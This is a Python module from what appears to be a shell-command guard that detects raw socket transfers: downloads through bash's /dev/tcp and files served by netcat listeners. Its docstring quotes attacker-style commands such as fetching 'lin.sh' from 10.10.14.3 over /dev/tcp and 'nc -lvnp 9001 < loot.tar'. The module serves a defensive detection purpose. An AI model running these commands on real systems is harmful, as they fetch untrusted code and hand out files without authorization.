"""Tactic family ``raw transfers``: a file moved over a bare socket, with no client or server program between.

- A file fetched from another machine through bash's ``/dev/tcp`` (``cat < /dev/tcp/10.10.14.3/8000 >
  lin.sh``, ``exec 3<>/dev/tcp/h/80; printf 'GET /x …' >&3; cat <&3 > x``), kept in a file or piped on to
  be unpacked (``| tar x``, ``| base64 -d``): the download of a host with no curl or wget, the way tools
  reach a machine an attacker is on. No developer fetches a file so when curl is at hand, yet it is not
  run here, so :data:`~agentbus.guards.verdict.REMOTE_ACCESS` (asked; the raw connection's category, as
  :mod:`.port_probes` has it). Read to the terminal or ``/dev/null`` (``head -n1 <&3``, ``timeout 1 cat <
  /dev/tcp/db/5432``) it is a probe; piped into a shell it is :mod:`..danger`'s remote code.
- A file served by a netcat listener to whoever connects first, with no login: from the reverse-shell
  catcher's spelling (``nc -lvnp 9001 < loot.tar``: listen, numeric, verbose; the attacker's idiom, not
  tldr's ``nc -l -p PORT < FILE``), or named only at run time (``cat "$f" | nc -l 9001``). Asked as
  :data:`~agentbus.guards.verdict.UPLOAD`, as such a file sent away is. A file served plainly (``nc -l 9000
  < dist/app.tgz``, ``< /tmp/app.tgz``: the spec corpus and the upload tests call them ordinary), a
  listener bound to loopback, canned text piped in (``printf 'HTTP/1.1 200 OK…' | nc -l 8080``: a test
  server) and a device (``< /dev/zero``) stay ordinary. A sensitive file served is :mod:`.exfiltration`'s
  (blocked).
"""

from __future__ import annotations

import re

from ...lazy_regex import lazy_compile
from ..findings import finding as _verdict
from ..findings import static_args as _values
from ..hosts import is_this_machine
from ..netcat import NETCATS, listens, operands
from ..options import option_values
from ..parse import Script
from ..programs import Invocation, walk
from ..transfers import socket_source
from ..verdict import REMOTE_ACCESS, UPLOAD, Verdict

__all__ = ["judge_script"]

_SOCKET_DEVICE = lazy_compile(r"^/dev/(?:tcp|udp)/([^/]+)/[^/]+$")
_LOOPBACK = lazy_compile(r"^(?:localhost|127(?:\.\d{1,3}){3}|::1|\[::1\])$", re.IGNORECASE)
"""An address that serves this machine only (``0.0.0.0`` serves every network: not here)."""
_KEEPERS = frozenset({"tee", "tar", "gtar", "bsdtar", "gunzip", "gzip", "zcat", "xz", "unxz", "zstd",
                      "bunzip2", "base64", "dd", "cpio", "unzip", "openssl"})  # fmt: skip
"""What a download piped on is kept or unpacked by (``| tar x``, ``| base64 -d > f``, ``| tee f``)."""
_FILE_READERS = frozenset({"cat", "tac", "pv", "dd", "gzip", "bzip2", "xz", "zstd", "base64", "tar", "gtar",
                           "bsdtar", "zip", "cpio", "mysqldump", "pg_dump"})  # fmt: skip
"""What feeds a listener a file's bytes through a pipe (``echo``/``printf`` feed it canned text)."""
_RUN_TIME = ("$", "`", "{}")
"""Marks of a name known only at run time (``< "$f"``, ``$(ls -t /tmp/*)``)."""
_QUIET = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})


def judge_script(script: Script, home: str) -> Verdict | None:
    """A file fetched over ``/dev/tcp`` and kept, or a file a netcat listener serves, or None."""
    opened: dict[str, str] = {}  # descriptor -> the other machine `exec N<>/dev/tcp/HOST/PORT` opened
    for stages in walk(script):
        for index, stage in enumerate(stages):
            if stage.name == "exec" and not stage.args:
                opened.update(_opened(stage))
                continue
            host = socket_source(stage) or _descriptor_source(stage, opened)
            following = stages[index + 1] if index + 1 < len(stages) else None
            if host is not None and (_kept(stage) or (following is not None and following.name in _KEEPERS)):
                why = f"fetches a file from {host} over a bare socket (/dev/tcp): a download with no client"
                return _verdict(REMOTE_ACCESS, stage, why)
            served = _served(stage, stages[index - 1] if index else None, home)
            if served is not None:
                why = f"{stage.name} serves {served} to whoever connects: a file handed out with no login"
                return _verdict(UPLOAD, stage, why)
    return None


def _opened(stage: Invocation) -> dict[str, str]:
    """``exec 3<>/dev/tcp/HOST/PORT``: descriptor 3 reads from HOST (this machine's ports left out)."""
    command = stage.command
    found: dict[str, str] = {}
    for redirect in command.redirects:
        device = _SOCKET_DEVICE.match(command.static(redirect.target) or "")
        if device is not None and redirect.fd.isdigit() and not is_this_machine(device.group(1)):
            found[redirect.fd] = device.group(1)
    return found


def _descriptor_source(stage: Invocation, opened: dict[str, str]) -> str | None:
    """The other machine ``cat <&3`` reads from, when this call opened descriptor 3 to it."""
    for redirect in stage.command.redirects:
        if redirect.op == "<&" and redirect.fd in ("", "0") and redirect.target in opened:
            return opened[redirect.target]
    return None


def _kept(stage: Invocation) -> bool:
    """Whether the stage's output goes to a file (``> lin.sh``, ``>> x``), not the terminal or nowhere."""
    command = stage.command
    return any(
        redirect.op in (">", ">>", ">|", "&>", "&>>")
        and redirect.fd in ("", "1", "&")
        and (command.static(redirect.target) or redirect.target) not in _QUIET
        for redirect in command.redirects
    )


def _served(stage: Invocation, before: Invocation | None, home: str) -> str | None:
    """What a netcat listener not bound to loopback hands out, when it is not a file served plainly: a file
    named at run time (its ``<`` redirection, or what a file reader piped into it reads), or any file from
    the catcher's spelling (``-lvnp``, ``-nlvp``: numeric, verbose) or ncat's ``--send-only``."""
    if stage.name not in NETCATS:
        return None
    values = _values(stage)
    bound = operands(values) + option_values(values, frozenset({"-s", "--source"}))
    if not listens(values) or any(_LOOPBACK.match(value) for value in bound):
        return None
    letters = {letter for value in values if value[:1] == "-" and value[1:2] != "-" for letter in value[1:]}
    catcher = {"l", "n", "v"} <= letters or "--send-only" in values  # ncat's: serve the file and hang up
    command = stage.command
    files = [
        command.render(redirect.target)
        for redirect in command.redirects
        if redirect.op == "<" and redirect.fd in ("", "0")
    ]
    if not files and before is not None and before.name in _FILE_READERS:
        files = [before.command.render(word) for word in before.args if not word.startswith("-")]
    for file in files:
        if file.startswith("/dev/") and not file.startswith("/dev/shm/"):
            continue
        if catcher or any(mark in file for mark in _RUN_TIME):
            return file
    return None
